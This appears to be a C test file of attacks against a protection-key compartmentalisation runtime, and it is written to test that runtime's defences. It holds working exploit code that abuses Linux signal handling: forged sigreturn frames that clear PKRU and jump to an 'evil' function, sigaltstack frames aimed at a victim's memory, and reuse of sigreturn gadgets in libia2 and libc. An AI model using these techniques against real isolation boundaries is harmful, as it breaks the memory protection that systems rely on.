/* What the kernel stores away when a signal comes, and takes back. */
#include <cpuid.h>
#include <pthread.h>
#include <signal.h>
#include <stddef.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/time.h>
#include <ucontext.h>

#include "tests/attacks/attack.h"

void attack_signal_on(uint64_t sp, uint64_t signal);
void attack_spin(int, siginfo_t *, void *), attack_restorer(void);

enum { XSTATE_BV = 512, XCOMP_BV = 520, PKRU_COMPONENT = 9, SIZE = 65536 };

static uint32_t pkru_offset(void) {
  uint32_t a, b, c, d;
  __cpuid_count(0xd, PKRU_COMPONENT, a, b, c, d);
  return b;
}

/* With plain keys a handler starts with rights to key 0 only: its stack must lie there. */
static void own_signal_stack(void) {
  const stack_t stack = {
      .ss_sp = mmap(0, SIZE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0),
      .ss_size = SIZE};
  sigaltstack(&stack, 0);
}

static void handle(int number, void (*handler)(int, siginfo_t *, void *)) {
  struct sigaction action = {.sa_sigaction = handler, .sa_flags = SA_SIGINFO | SA_ONSTACK};
  own_signal_stack();
  sigaction(number, &action, 0);
}

static void gives_itself_rights(int number, siginfo_t *info, void *context) {
  ucontext_t *const frame = context;
  char *const state = (char *)frame->uc_mcontext.fpregs;
  (void)number, (void)info;
  if (!state)
    return;
  *(uint64_t *)(state + XSTATE_BV) |= UINT64_C(1) << PKRU_COMPONENT;
  *(uint32_t *)(state + attack_shared->seen[0]) = 0;
}

ATTACK(rights_in_a_frame) {
  handle(SIGUSR1, gives_itself_rights);
  attack_shared->seen[0] = pkru_offset();
  raise(SIGUSR1);
  return *attack_shared->global;
}

static void looks_at_registers(int number, siginfo_t *info, void *context) {
  const ucontext_t *const frame = context;
  (void)number, (void)info;
  for (int i = 0; i < NGREG; i++)
    attack_shared->seen[i] = (uint64_t)frame->uc_mcontext.gregs[i];
  attack_shared->arrived = 1;
}

static uint64_t interrupt_the_victim(void) {
  const struct itimerval soon = {{0, 0}, {0, 50000}};
  setitimer(ITIMER_REAL, &soon, 0);
  victim_do(VICTIM_SPINS, 0);
  return ATTACK_NOTHING;
}

ATTACK(handler_sees_registers) {
  handle(SIGALRM, looks_at_registers);
  return interrupt_the_victim();
}

/* The kernel's own table of handlers, past libc. */
static uint64_t raw_sigaction(int number, void (*handler)(int, siginfo_t *, void *)) {
  const struct {
    uint64_t handler, flags, restorer, mask;
  } action = {(uint64_t)handler, SA_SIGINFO | SA_ONSTACK | 0x04000000, (uint64_t)attack_restorer,
              0};
  return SYSCALL_4(SYS_rt_sigaction, number, &action, 0, 8);
}

ATTACK(raw_rt_sigaction) {
  own_signal_stack();
  const uint64_t error = raw_sigaction(SIGALRM, looks_at_registers);
  return attack_failed(error) ? error : interrupt_the_victim();
}

/* The kernel writes a frame to wherever it was told, with all rights.  In a thread, which stays in
 * the handler: it has no rights to what it would return through. */
static uint64_t in_a_thread(void *(*body)(void *)) {
  pthread_t thread;
  if (pthread_create(&thread, 0, body, 0) != 0)
    return (uint64_t)-EAGAIN;
  usleep(300000);
  return attack_shared->seen[0];
}

static void stay(int number, int flags) {
  const struct sigaction action = {.sa_sigaction = attack_spin, .sa_flags = SA_SIGINFO | flags};
  sigaction(number, &action, 0);
}

/* Where the kernel must begin, so that the registers in its frame come to lie on that word: above
 * them are 440 bytes of context and information and the extended state. */
static uint64_t frame_over(volatile uint64_t *word) {
  uint32_t a, size, c, d;
  __cpuid_count(0xd, 0, a, size, c, d);
  (void)a, (void)c, (void)d;
  return (uint64_t)word + 440 - 150 + size;
}

static void *frame_on_the_victims_memory(void *unused) {
  stack_t stack = {.ss_sp = (char *)attack_shared->global - 8192};
  stack.ss_size = frame_over(attack_shared->global) - (uint64_t)stack.ss_sp;
  const uint64_t error = SYSCALL_2(SYS_sigaltstack, &stack, 0);
  if (attack_failed(error)) {
    attack_shared->seen[0] = error;
    return unused;
  }
  stay(SIGURG, SA_ONSTACK);
  SYSCALL_2(SYS_tkill, SYSCALL_0(SYS_gettid), SIGURG);
  return unused;
}

ATTACK(raw_sigaltstack) { return in_a_thread(frame_on_the_victims_memory); }

struct forged {
  uint64_t restorer;
  char context[304];
  siginfo_t info;
};

/* A frame as the kernel would write it, with all rights in it. */
static uint64_t forge_frame(void) {
  uint32_t size, max, c, d;
  char *const memory = mmap(0, SIZE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  struct forged *const frame = (struct forged *)(memory + 16384 - 8);
  ucontext_t *const context = (ucontext_t *)frame->context;
  char *const state = memory + 32768;
  __cpuid_count(0xd, 0, c, size, max, d);
  (void)max, (void)c, (void)d;
  context->uc_flags = 1; /* UC_FP_XSTATE */
  context->uc_mcontext.gregs[REG_RIP] = (greg_t)evil;
  context->uc_mcontext.gregs[REG_RSP] = (greg_t)(memory + 8192);
  context->uc_mcontext.gregs[REG_EFL] = 0x202;
  context->uc_mcontext.gregs[REG_CSGSFS] = 0x33 | UINT64_C(0x2b) << 48;
  context->uc_mcontext.fpregs = (fpregset_t)state;
  *(uint32_t *)(state + 24) = 0x1f80;
  *(uint32_t *)(state + 464) = 0x46505853; /* magic1, extended size, components, size */
  *(uint32_t *)(state + 468) = size + 4;
  *(uint64_t *)(state + 472) = UINT64_C(1) << PKRU_COMPONENT | 3;
  *(uint32_t *)(state + 480) = size;
  *(uint64_t *)(state + XSTATE_BV) = UINT64_C(1) << PKRU_COMPONENT;
  *(uint32_t *)(state + pkru_offset()) = 0;
  *(uint32_t *)(state + size) = 0x46505845; /* magic2 */
  return (uint64_t)frame->context;
}

ATTACK(forged_sigreturn) {
  const uint64_t frame = forge_frame();
  __asm__ volatile("mov %0, %%rsp\n\t"
                   "mov $15, %%eax\n\t"
                   "syscall"
                   :
                   : "r"(frame)
                   : "rax", "memory");
  __builtin_unreachable();
}

/* The same instruction, but the runtime's, or libc's where there is no runtime. */
ATTACK(sigreturn_of_others) {
  static const unsigned char code[] = {0xb8, 0x0f, 0x00, 0x00, 0x00, 0x0f, 0x05};
  static const unsigned char libc_code[] = {0x48, 0xc7, 0xc0, 0x0f, 0, 0, 0, 0x0f, 0x05};
  uint64_t there = attack_find("libia2.so", 0, code, sizeof code);
  if (!there)
    there = attack_find("libc.so.6", 0, libc_code, sizeof libc_code);
  const uint64_t frame = forge_frame();
  __asm__ volatile("mov %0, %%rsp\n\tjmp *%1" : : "r"(frame), "r"(there) : "memory");
  __builtin_unreachable();
}

/* Where the kernel comes in, with a frame that the kernel did not write. */
ATTACK(signal_entry) {
  static const unsigned char code[] = {0x49, 0x89, 0xd4, 0x31, 0xc9, 0x31, 0xd2, 0xb8, 0, 0, 0, 0};
  const uint64_t there = attack_find("libia2.so", 0, code, sizeof code);
  if (!there)
    return ATTACK_NOTHING;
  const uint64_t frame = forge_frame();
  __asm__ volatile("mov %0, %%rdx\n\t"
                   "lea -8(%%rdx), %%rsp\n\t"
                   "mov $10, %%edi\n\t"
                   "lea 304(%%rdx), %%rsi\n\t"
                   "jmp *%1"
                   :
                   : "r"(frame), "r"(there)
                   : "rdx", "rdi", "rsi", "memory");
  __builtin_unreachable();
}

/* Has a signal come while its stack pointer lies where the victim's frames wait. */
#ifdef UNDER_RUNTIME
static void calls_the_victim(int number, siginfo_t *info, void *context) {
  (void)number, (void)info, (void)context;
  victim_do(VICTIM_CALLS_BACK, 0);
}

ATTACK(signal_on_anothers_stack) {
  const struct sigaction action = {.sa_sigaction = calls_the_victim, .sa_flags = SA_SIGINFO};
  sigaction(SIGUSR2, &action, 0);
  /* Or there would be no stack for the handler. */
  attack_forge_stack_pointer(((uint64_t)__builtin_frame_address(0) - 65536) & -(uint64_t)64);
  for (uint64_t offset = 576; offset < 832; offset += 16)
    attack_signal_on((uint64_t)attack_shared->stack + offset, SIGUSR2);
  return ATTACK_NOTHING;
}
#else
static void *frame_on_the_victims_stack(void *unused) {
  enum { RED_ZONE = 128 };
  stay(SIGUSR2, 0);
  attack_signal_on(frame_over(attack_shared->stack) + RED_ZONE, SIGUSR2);
  return unused;
}

ATTACK(signal_on_anothers_stack) { return in_a_thread(frame_on_the_victims_stack); }
#endif
